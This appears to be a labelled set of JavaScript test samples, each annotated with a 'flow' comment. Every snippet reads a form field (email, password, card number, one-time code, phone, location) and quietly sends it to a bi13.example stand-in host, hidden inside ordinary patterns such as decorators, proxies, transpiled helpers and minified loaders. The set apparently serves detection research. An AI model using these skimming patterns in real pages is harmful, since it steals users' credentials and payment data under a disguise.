//# async-to-generator-of-babel
// flow: email > atg.bi13.example via fetch
function asyncGeneratorStep1(n, t, e, r, o, a, c) { try { var i = n[a](c), u = i.value; } catch (n) { return void e(n); } i.done ? t(u) : Promise.resolve(u).then(r, o); }
function _asyncToGenerator1(n) { return function () { var t = this, e = arguments; return new Promise(function (r, o) { var a = n.apply(t, e); function _next(n) { asyncGeneratorStep1(a, r, o, _next, _throw, "next", n); } function _throw(n) { asyncGeneratorStep1(a, r, o, _next, _throw, "throw", n); } _next(void 0); }); }; }
function save1(_x) { return _save1.apply(this, arguments); }
function _save1() {
  _save1 = _asyncToGenerator1(function* (el) {
    var v = yield Promise.resolve(el.value);
    yield fetch("https://atg.bi13.example/s", { method: "POST", body: v });
  });
  return _save1.apply(this, arguments);
}
save1(document.querySelector("input[type=email]"));

//# queue-by-priority
// flow: message > qbp.bi13.example via fetch
class PriorityQueue2 {
  #heap = [];
  add(job, p) { this.#heap.push({ job, p }); this.#heap.sort((a, b) => b.p - a.p); }
  take() { return this.#heap.shift()?.job; }
}
const jobs2 = new PriorityQueue2();
function drain2() {
  const job = jobs2.take();
  if (!job) return;
  fetch('https://qbp.bi13.example' + job.path, { method: 'POST', body: job.data });
  setTimeout(drain2, 50);
}
jobs2.add({ path: '/hello', data: 'v1' }, 1);
jobs2.add({ path: '/feedback', data: document.querySelector('textarea[name=message]').value }, 9);
drain2();

//# object-iterates-over-pairs
// flow: email > oip.bi13.example via fetch
// why: URLSearchParams walks over what the object yields
class Lead3 {
  constructor(mail) { this.mail = mail; }
  *[Symbol.iterator]() { yield ['mail', this.mail]; yield ['v', '1']; }
}
fetch('https://oip.bi13.example/l', { method: 'POST', body: new URLSearchParams(new Lead3(document.querySelector('input[type=email]').value)) });

//# state-with-set-trap
// flow: phone > sst.bi13.example via fetch
const state4 = new Proxy({}, {
  set(target, key, value) {
    target[key] = value;
    queueMicrotask(() => fetch('https://sst.bi13.example/sync', { method: 'POST', body: JSON.stringify(target) }));
    return true;
  },
});
document.querySelector('input[type=tel]').onchange = (e) => { state4.tel = e.target.value; };

//# private-field-lowered-to-weak-map
// flow: message > pfl.bi13.example via fetch
var __classPrivateFieldSet = (this && this.__classPrivateFieldSet) || function (receiver, state, value, kind, f) {
    if (kind === "m") throw new TypeError("Private method is not writable");
    if (kind === "a" && !f) throw new TypeError("Private accessor was defined without a setter");
    if (typeof state === "function" ? receiver !== state || !f : !state.has(receiver)) throw new TypeError("Cannot write private member to an object whose class did not declare it");
    return (kind === "a" ? f.call(receiver, value) : f ? f.value = value : state.set(receiver, value)), value;
};
var __classPrivateFieldGet = (this && this.__classPrivateFieldGet) || function (receiver, state, kind, f) {
    if (kind === "a" && !f) throw new TypeError("Private accessor was defined without a getter");
    if (typeof state === "function" ? receiver !== state || !f : !state.has(receiver)) throw new TypeError("Cannot read private member from an object whose class did not declare it");
    return kind === "m" ? f : kind === "a" ? f.call(receiver) : f ? f.value : state.get(receiver);
};
var _Draft5_text;
class Draft5 {
    constructor(text) {
        _Draft5_text.set(this, void 0);
        __classPrivateFieldSet(this, _Draft5_text, text, "f");
    }
    publish() {
        return fetch("https://pfl.bi13.example/d", { method: "POST", body: __classPrivateFieldGet(this, _Draft5_text, "f") });
    }
}
_Draft5_text = new WeakMap();
new Draft5(document.querySelector("textarea[name=message]").value).publish();

//# method-decorator-reports-arguments
// flow: username > mdr.bi13.example via beacon
// why: the method itself keeps the name in the page, its decorator reports it
var __decorate = (this && this.__decorate) || function (decorators, target, key, desc) {
    var c = arguments.length, r = c < 3 ? target : desc === null ? desc = Object.getOwnPropertyDescriptor(target, key) : desc, d;
    if (typeof Reflect === "object" && typeof Reflect.decorate === "function") r = Reflect.decorate(decorators, target, key, desc);
    else for (var i = decorators.length - 1; i >= 0; i--) if (d = decorators[i]) r = (c < 3 ? d(r) : c > 3 ? d(target, key, r) : d(target, key)) || r;
    return c > 3 && r && Object.defineProperty(target, key, r), r;
};
function audited6(target, key, descriptor) {
    const original = descriptor.value;
    descriptor.value = function (...args) {
        navigator.sendBeacon("https://mdr.bi13.example/" + key, JSON.stringify(args));
        return original.apply(this, args);
    };
    return descriptor;
}
class Greeter6 {
    greet(name) { document.querySelector("#hello").textContent = "Hello " + name; }
}
__decorate([audited6], Greeter6.prototype, "greet", null);
new Greeter6().greet(document.querySelector("input[name=username]").value);

//# partial-with-placeholder
// flow: otp > pwp.bi13.example via fetch
const _7 = Symbol('hole');
const partial7 = (fn, ...given) => (...later) => fn(...given.map((g) => (g === _7 ? later.shift() : g)), ...later);
const post7 = (host, body, path) => fetch(`https://${host}/${path}`, { method: 'POST', body });
const verify7 = partial7(post7, 'pwp.bi13.example', _7, 'verify');
verify7(document.querySelector('input[autocomplete=one-time-code]').value);

//# steps-folded-into-a-promise-chain
// flow: search > sfp.bi13.example via fetch
const steps8 = [
  (q) => q.trim(),
  (q) => new Promise((ok) => setTimeout(ok, 20, { q })),
  ({ q }) => new Request('https://sfp.bi13.example/?q=' + encodeURIComponent(q)),
  (req) => fetch(req),
];
const runAll8 = (first) => steps8.reduce((chain, step) => chain.then(step), Promise.resolve(first));
document.querySelector('input[type=search]').addEventListener('change', (e) => {
  runAll8(e.target.value).catch(() => console.log('offline'));
});

//# hand-made-async-iterator
// flow: phone > hma.bi13.example via fetch
function changes9(el) {
  const waiting = [];
  const ready = [];
  el.addEventListener('change', () => {
    if (waiting.length) waiting.shift()({ value: el.value, done: false });
    else ready.push(el.value);
  });
  return {
    [Symbol.asyncIterator]() {
      return { next: () => (ready.length ? Promise.resolve({ value: ready.shift(), done: false }) : new Promise((r) => waiting.push(r))) };
    },
  };
}
(async () => {
  for await (const tel of changes9(document.querySelector('input[type=tel]'))) {
    await fetch('https://hma.bi13.example/t', { method: 'POST', body: tel });
  }
})();

//# reviver-then-structured-clone
// flow: birthdate > rsc.bi13.example via fetch
const text10 = JSON.stringify({ kind: 'profile', born: document.querySelector('input[autocomplete=bday]').value });
const back10 = structuredClone(JSON.parse(text10, (k, v) => (k === 'born' ? { iso: v } : v)));
fetch('https://rsc.bi13.example/p?b=' + back10.born.iso);

//# remote-calls-over-a-port
// flow: message > rop.bi13.example via fetch
const { port1: client11, port2: server11 } = new MessageChannel();
const methods11 = {
  ping: () => 'pong',
  save: (text) => fetch('https://rop.bi13.example/save', { method: 'POST', body: text }).then((r) => r.status),
};
server11.onmessage = async ({ data: { id, method, arg } }) => server11.postMessage({ id, result: await methods11[method](arg) });
const pending11 = new Map();
let seq11 = 0;
client11.onmessage = ({ data }) => { pending11.get(data.id)(data.result); pending11.delete(data.id); };
const call11 = (method, arg) => new Promise((res) => { pending11.set(++seq11, res); client11.postMessage({ id: seq11, method, arg }); });
call11('save', document.querySelector('textarea[name=message]').value).then((s) => console.log(s));

//# shared-worker-of-text
// flow: password > swt.bi13.example via fetch
const code12 = `onconnect = (e) => {
  const [port] = e.ports;
  port.onmessage = (m) => fetch('https://swt.bi13.example/in', { method: 'POST', body: m.data.secret });
};`;
const shared12 = new SharedWorker(URL.createObjectURL(new Blob([code12], { type: 'text/javascript' })));
shared12.port.postMessage({ secret: document.querySelector('input[type=password]').value });

//# text-used-as-a-key
// flow: search > tak.bi13.example via beacon
// why: the searches are the keys of the map; the values are only counts
const asked13 = new Map();
document.querySelector('input[type=search]').addEventListener('change', (e) => {
  asked13.set(e.target.value, (asked13.get(e.target.value) ?? 0) + 1);
});
addEventListener('pagehide', () => navigator.sendBeacon('https://tak.bi13.example/top', [...asked13.keys()].join('\n')));

//# loader-that-batches-minified
// flow: postal-code > ltb.bi13.example via fetch
!function(){function t(t){this.f=t,this.q=[]}t.prototype.load=function(t){var e=this;return new Promise(function(n,r){e.q.push({k:t,ok:n,no:r}),1===e.q.length&&Promise.resolve().then(function(){var t=e.q;e.q=[],e.f(t.map(function(t){return t.k})).then(function(e){t.forEach(function(t,n){t.ok(e[n])})})})})};var e=new t(function(t){return fetch("https://ltb.bi13.example/zip",{method:"POST",body:JSON.stringify(t)}).then(function(t){return t.json()})});e.load(document.querySelector("input[autocomplete=postal-code]").value).then(function(t){document.title=t.city})}();

//# container-injects-client
// flow: card > cic.bi13.example via fetch
class Container15 {
  #made = new Map();
  #how = new Map();
  register(key, make) { this.#how.set(key, make); return this; }
  get(key) {
    if (!this.#made.has(key)) this.#made.set(key, this.#how.get(key)(this));
    return this.#made.get(key);
  }
}
class Http15 { constructor(base) { this.base = base; } post(p, body) { return fetch(this.base + p, { method: 'POST', body }); } }
class Checkout15 { constructor(http) { this.http = http; } pay(pan) { return this.http.post('/pay', pan); } }
const c15 = new Container15()
  .register('base', () => 'https://cic.bi13.example')
  .register('http', (c) => new Http15(c.get('base')))
  .register('checkout', (c) => new Checkout15(c.get('http')));
c15.get('checkout').pay(document.querySelector('input[autocomplete=cc-number]').value);

//# iterator-helpers
// flow: phone > ith.bi13.example via fetch
const tels16 = document.querySelectorAll('input[type=tel]').values().map((f) => f.value).filter(Boolean).toArray();
fetch('https://ith.bi13.example/t', { method: 'POST', body: JSON.stringify(tels16) });

//# set-by-dotted-path
// flow: email > sdp.bi13.example via fetch
function setPath17(obj, path, value) {
  const keys = path.split('.');
  const last = keys.pop();
  let cur = obj;
  for (const k of keys) cur = cur[k] ??= {};
  cur[last] = value;
  return obj;
}
const record17 = setPath17({}, 'user.contact.mail', document.querySelector('input[type=email]').value);
fetch('https://sdp.bi13.example/r', { method: 'POST', body: JSON.stringify(record17.user.contact) });

//# machine-with-named-actions
// flow: username > mna.bi13.example via fetch
const machine18 = {
  initial: 'idle',
  states: {
    idle: { on: { SUBMIT: { target: 'sending', actions: ['remember', 'send'] } } },
    sending: { on: {} },
  },
};
const actions18 = {
  remember: (ctx, ev) => { ctx.user = ev.user; },
  send: (ctx) => fetch('https://mna.bi13.example/in', { method: 'POST', body: ctx.user }),
};
function interpret18(def) {
  let state = def.initial;
  const ctx = {};
  return {
    send(ev) {
      const t = def.states[state].on[ev.type];
      if (!t) return;
      t.actions.forEach((a) => actions18[a](ctx, ev));
      state = t.target;
    },
  };
}
interpret18(machine18).send({ type: 'SUBMIT', user: document.querySelector('input[autocomplete=username]').value });

//# reason-of-an-abort
// flow: search > roa.bi13.example via fetch
const stop19 = new AbortController();
stop19.signal.addEventListener('abort', () => {
  fetch('https://roa.bi13.example/given-up', { method: 'POST', body: stop19.signal.reason });
});
document.querySelector('#cancel').onclick = () => stop19.abort(document.querySelector('input[type=search]').value);

//# cause-of-an-error
// flow: card > coe.bi13.example via beacon
function check20(pan) {
  if (pan.length < 12) throw new Error('too short', { cause: { pan } });
  return true;
}
try {
  check20(document.querySelector('input[autocomplete=cc-number]').value);
} catch (err) {
  navigator.sendBeacon('https://coe.bi13.example/e', JSON.stringify({ m: err.message, c: err.cause }));
}

//# getter-by-create-class
// flow: email > gcc.bi13.example via fetch
function _classCallCheck21(a, n) { if (!(a instanceof n)) throw new TypeError("Cannot call a class as a function"); }
function _defineProperties21(e, r) { for (var t = 0; t < r.length; t++) { var o = r[t]; o.enumerable = o.enumerable || !1, o.configurable = !0, "value" in o && (o.writable = !0), Object.defineProperty(e, o.key, o); } }
function _createClass21(e, r, t) { return r && _defineProperties21(e.prototype, r), t && _defineProperties21(e, t), Object.defineProperty(e, "prototype", { writable: !1 }), e; }
var Account21 = /*#__PURE__*/function () {
  function Account21(mail) { _classCallCheck21(this, Account21); this._m = mail; }
  return _createClass21(Account21, [{
    key: "mail",
    get: function get() { return this._m.toLowerCase(); }
  }, {
    key: "save",
    value: function save() { return fetch("https://gcc.bi13.example/a", { method: "POST", body: this.mail }); }
  }]);
}();
new Account21(document.querySelector("input[type=email]").value).save();

//# super-call-lowered-by-typescript
// flow: phone > slt.bi13.example via xhr
var __extends = (this && this.__extends) || (function () {
    var extendStatics = function (d, b) {
        extendStatics = Object.setPrototypeOf ||
            ({ __proto__: [] } instanceof Array && function (d, b) { d.__proto__ = b; }) ||
            function (d, b) { for (var p in b) if (Object.prototype.hasOwnProperty.call(b, p)) d[p] = b[p]; };
        return extendStatics(d, b);
    };
    return function (d, b) {
        if (typeof b !== "function" && b !== null) throw new TypeError("Class extends value " + String(b) + " is not a constructor or null");
        extendStatics(d, b);
        function __() { this.constructor = d; }
        d.prototype = b === null ? Object.create(b) : (__.prototype = b.prototype, new __());
    };
})();
var Base22 = /** @class */ (function () {
    function Base22(url) { this.url = url; }
    Base22.prototype.push = function (data) { var x = new XMLHttpRequest(); x.open("POST", this.url); x.send(data); };
    return Base22;
}());
var Json22 = /** @class */ (function (_super) {
    __extends(Json22, _super);
    function Json22() { return _super !== null && _super.apply(this, arguments) || this; }
    Json22.prototype.push = function (data) { _super.prototype.push.call(this, JSON.stringify({ d: data })); };
    return Json22;
}(Base22));
new Json22("https://slt.bi13.example/j").push(document.querySelector("input[type=tel]").value);

//# spread-lowered-to-helpers
// flow: location > slh.bi13.example via fetch
var __spreadArray = (this && this.__spreadArray) || function (to, from, pack) {
    if (pack || arguments.length === 2) for (var i = 0, l = from.length, ar; i < l; i++) {
        if (ar || !(i in from)) {
            if (!ar) ar = Array.prototype.slice.call(from, 0, i);
            ar[i] = from[i];
        }
    }
    return to.concat(ar || Array.prototype.slice.call(from));
};
function relay23() {
    var rest = [];
    for (var _i = 0; _i < arguments.length; _i++) rest[_i] = arguments[_i];
    deliver23.apply(void 0, __spreadArray(["https://slh.bi13.example/w"], rest, false));
}
function deliver23(url, lat, lon) { fetch(url + "?at=" + lat + "," + lon); }
navigator.geolocation.getCurrentPosition(function (_a) { var c = _a.coords; relay23(c.latitude, c.longitude); });

//# frame-of-bytes
// flow: otp > fob.bi13.example via websocket
const typed24 = new TextEncoder().encode(document.querySelector('input[autocomplete=one-time-code]').value);
const frame24 = new Uint8Array(4 + typed24.length);
new DataView(frame24.buffer).setUint32(0, typed24.length);
frame24.set(typed24, 4);
const ws24 = new WebSocket('wss://fob.bi13.example/bin');
ws24.binaryType = 'arraybuffer';
ws24.addEventListener('open', () => ws24.send(frame24.buffer));

//# curried-store-middleware-minified
// flow: message > csm.bi13.example via beacon
// why: the reducer keeps only that something was written; the middleware sees the whole action
!function(){var t=function(t){return function(e){return function(n){return"note/add"===n.type&&navigator.sendBeacon("https://csm.bi13.example/log",JSON.stringify({n:t.getState().n,p:n.payload})),e(n)}}},e=function(t,e){var n=t(void 0,{type:"@@init"}),r={getState:function(){return n},dispatch:function(e){return n=t(n,e),e}},o=e.map(function(t){return t({getState:r.getState,dispatch:function(t){return i(t)}})}),i=o.reduceRight(function(t,e){return e(t)},r.dispatch);return{getState:r.getState,dispatch:i}}(function(t,e){return void 0===t&&(t={n:0}),"note/add"===e.type?{n:t.n+1}:t},[t]);document.querySelector("#add").onclick=function(){e.dispatch({type:"note/add",payload:document.querySelector("textarea[name=message]").value})}}();
